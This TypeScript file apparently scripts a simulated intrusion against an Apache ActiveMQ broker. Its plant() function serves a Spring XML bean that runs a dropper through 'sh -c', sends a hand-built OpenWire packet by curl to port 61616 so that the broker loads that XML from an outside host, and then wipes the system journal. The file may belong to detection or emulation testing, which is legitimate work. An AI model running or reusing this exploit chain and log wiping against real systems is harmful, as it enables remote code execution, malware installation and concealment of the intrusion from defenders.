// Played by a toy that fetches the Spring file and runs what stands in it.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  dress.toy({
    unit: 'mq',
    user: 'activemq',
    exe: '/usr/lib/jvm/java-11-openjdk-amd64/bin/java',
    title: '/usr/lib/jvm/java-11-openjdk-amd64/bin/java -Dactivemq.home=/opt/activemq -jar /opt/activemq/bin/activemq.jar start',
    home: '/opt/activemq',
    play: 'activemq',
  })
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/.mq/mqd' })
  stage.offer(
    'poc.xml',
    `<beans><bean id="pb" class="java.lang.ProcessBuilder" init-method="start"><constructor-arg><list><value>sh</value><value>-c</value><value>${line}</value></list></constructor-arg></bean></beans>`,
  )
  stage.mark('occurrence')
  const name = 'org.springframework.context.support.ClassPathXmlApplicationContext'
  const packet = `\\x1f\\x00\\x00\\x01${name}\\x01http://${stage.values['SHOP']}/poc.xml`
  await stage.outside(`printf '${packet}' | curl -s -m 3 --interface 203.0.113.98 telnet://$HOST:61616 >/dev/null || true`)
  await wipe(stage, ['journal'])
}
